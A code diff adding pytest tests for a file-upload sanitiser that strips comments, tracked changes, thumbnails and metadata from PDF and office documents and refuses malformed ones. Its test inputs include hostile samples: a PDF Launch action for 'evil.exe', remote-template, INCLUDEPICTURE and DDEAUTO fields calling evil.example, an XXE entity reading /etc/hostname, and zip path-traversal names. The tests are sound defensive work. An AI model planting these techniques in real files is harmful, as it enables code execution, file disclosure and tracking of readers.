@@ -166,32 +166,138 @@ def test_pdf_loses_what_stood_in_an_older_version_of_it():
     assert older not in everything_in(files.cleaned(SimpleUploadedFile("a.pdf", out.getvalue())).read())
 
 
+def test_pdf_loses_what_starts_programs_and_notes_that_stand_in_their_page():
+    out = io.BytesIO()
+    with pikepdf.new() as made:
+        page = made.add_blank_page()
+        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="evil.exe")
+        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/", Next=launch)
+        note = pikepdf.Dictionary(Subtype=pikepdf.Name.Text, T=CANARY.decode(), Contents=CANARY.decode(), Rect=[0] * 4)
+        words = pikepdf.Dictionary(Subtype=pikepdf.Name.FreeText, T=CANARY.decode(), Contents="Seen.", Rect=[0] * 4)
+        starts, leads = (
+            pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0] * 4, A=action) for action in (launch, link)
+        )
+        page.obj.Annots = pikepdf.Array([note, words, starts, leads])
+        made.save(out)
+    kept = everything_in(files.cleaned(SimpleUploadedFile("a.pdf", out.getvalue())).read())
+    for gone in (CANARY, b"evil.exe", b"Launch"):
+        assert gone not in kept, gone
+    for stays in (b"https://example.org/", b"Seen."):
+        assert stays in kept, stays
+
+
 def test_locked_pdf_is_refused_in_its_own_words():
     locked = pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
     assert refused("a.pdf", locked) == "locked"
 
 
-def test_office_file_loses_who_commented_and_where_its_photos_were_taken():
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+ODT = (
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
+    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
+    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
+)
+RELATIONSHIPS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
+
+
+def kept_parts(ending, **parts):
+    """Return ``{name: words}`` of an office file as it is kept."""
+    kept = files.cleaned(SimpleUploadedFile(f"a.{ending}", office(ending, **parts))).read()
+    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def test_word_file_loses_what_its_reader_does_not_see_and_keeps_the_rest():
     exif = Image.Exif()
     exif[0x013B] = CANARY.decode()
     name = CANARY.decode()
-    parts = {
-        "word/comments.xml": f'<w:comment w:author="{name}" w:initials="CB">Good.</w:comment>',
-        "word/people.xml": f'<w15:person w15:author="{name}"/>',
-        "word/media/a.jpeg": picture(exif=exif),
-    }
-    kept = files.cleaned(SimpleUploadedFile("a.docx", office("docx", **parts))).read()
-    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
-        everything = b"".join(archive.read(name) for name in archive.namelist())
-        assert Image.open(io.BytesIO(archive.read("word/media/a.jpeg"))).getpixel((0, 0)) == Image.open(
-            io.BytesIO(picture())
-        ).getpixel((0, 0))
+    kept = kept_parts(
+        "docx",
+        **{
+            "word/comments.xml": f'<w:comments {W}><w:comment w:author="{name}" w:initials="CB">{name}</w:comment>'
+            "</w:comments>",
+            "word/people.xml": f'<w15:person w15:author="{name}"/>',
+            "word/media/a.jpeg": picture(exif=exif),
+            "docProps/thumbnail.jpeg": picture(comment=CANARY),
+            "customXml/item1.xml": f"<who>{name}</who>",
+            "_rels/.rels": f'<Relationships {RELATIONSHIPS}><Relationship Id="a" Target="docProps/thumbnail.jpeg" '
+            'Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail"/></Relationships>',
+            "word/body.xml": f"<w:document {W}><w:p><w:r><w:t>We listen.</w:t></w:r>"
+            f'<w:commentRangeStart w:id="0"/><w:del w:id="1" w:author="{name}"><w:r><w:delText>{name}</w:delText></w:r>'
+            f'</w:del><w:ins w:id="2" w:author="{name}" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Every week.</w:t></w:r>'
+            f"</w:ins><w:r><w:instrText>HYPERLINK</w:instrText></w:r>{'<w:moveFrom/>'}And more.</w:p></w:document>",
+        },
+    )
+    everything = b"".join(kept.values())
     assert CANARY not in everything
-    assert b"Good." in everything
-    comment = f"<office:annotation><dc:creator>{name}</dc:creator>Good.</office:annotation>"
-    kept = files.cleaned(SimpleUploadedFile("a.odt", office("odt", **{"styles.xml": comment}))).read()
-    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
-        assert archive.read("styles.xml") == comment.replace(name, "").encode()
+    assert b"2026-01-01" not in everything
+    assert "docProps/thumbnail.jpeg" not in kept
+    assert b"thumbnail" not in kept["_rels/.rels"]
+    for words in (b"We listen.", b"Every week.", b"HYPERLINK", b"And more."):
+        assert words in kept["word/body.xml"]
+    same = [Image.open(io.BytesIO(each)).getpixel((0, 0)) for each in (kept["word/media/a.jpeg"], picture())]
+    assert same[0] == same[1]
+
+
+def test_opendocument_file_loses_what_its_reader_does_not_see_and_keeps_the_rest():
+    name = CANARY.decode()
+    kept = kept_parts(
+        "odt",
+        **{
+            "Thumbnails/thumbnail.png": picture("PNG"),
+            "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
+            '<m:file-entry m:full-path="Thumbnails/thumbnail.png"/><m:file-entry m:full-path="content.xml"/>'
+            "</m:manifest>",
+            "styles.xml": f"<office:body {ODT}><text:tracked-changes><text:p>{name}</text:p></text:tracked-changes>"
+            f"<text:p>We <office:annotation><dc:creator>{name}</dc:creator>{name}</office:annotation>listen.</text:p>"
+            '<text:a xlink:href="https://example.org/">more</text:a><draw:image xlink:href="https://evil.example/a"/>'
+            f"<dc:creator>{name}</dc:creator></office:body>",
+        },
+    )
+    assert CANARY not in b"".join(kept.values())
+    assert b"We listen." in kept["styles.xml"]
+    assert b"https://example.org/" in kept["styles.xml"]
+    assert b"evil" not in kept["styles.xml"]
+    assert "Thumbnails/thumbnail.png" not in kept
+    assert b"Thumbnails" not in kept["META-INF/manifest.xml"]
+    assert b"content.xml" in kept["META-INF/manifest.xml"]
+
+
+def test_word_file_fetches_nothing_when_an_assessor_opens_it():
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    kept = kept_parts(
+        "docx",
+        **{
+            "word/_rels/settings.xml.rels": f'<Relationships {RELATIONSHIPS}><Relationship Id="a" '
+            f'TargetMode="External" Type="{kind}/attachedTemplate" Target="http://evil.example/t.dotm"/>'
+            f'<Relationship Id="b" TargetMode="External" Type="{kind}/hyperlink" Target="https://example.org/"/></Relationships>',
+            "word/settings.xml": f'<w:settings {W}><w:attachedTemplate w:val="a"/><w:zoom w:percent="9"/></w:settings>',
+            "word/body.xml": f"<w:document {W}><w:instrText>INCLUDEPICTURE http://evil.example/</w:instrText>"
+            '<w:fldSimple w:instr="DDEAUTO evil"/></w:document>',
+        },
+    )
+    assert b"evil" not in b"".join(kept.values())
+    assert b"https://example.org/" in kept["word/_rels/settings.xml.rels"]
+    assert b"attachedTemplate" not in kept["word/settings.xml"]
+    assert b"zoom" in kept["word/settings.xml"]
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        {"word/a.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'},
+        {"word/a.xml": "<!DOCTYPE a><a/>"},
+        {"word/a.xml": "<a>"},
+        {"word/a.xml": "<?xml version='1.0' encoding='UTF-16'?><a/>"},
+    ],
+)
+def test_word_file_with_xml_that_no_program_writes_is_refused(parts):
+    assert refused("a.docx", office("docx", **parts)) == "odd"
+
+
+@pytest.mark.parametrize("name", ["../../../../etc/pwn.txt", "/etc/pwn.txt", "word\\..\\a.xml", "C:/a.xml", "word/.."])
+def test_word_file_with_a_part_that_lies_outside_of_it_is_refused(name):
+    assert refused("a.docx", office("docx", **{name: b"x"})) == "broken"
 
 
 def test_text_is_kept_as_it_is():
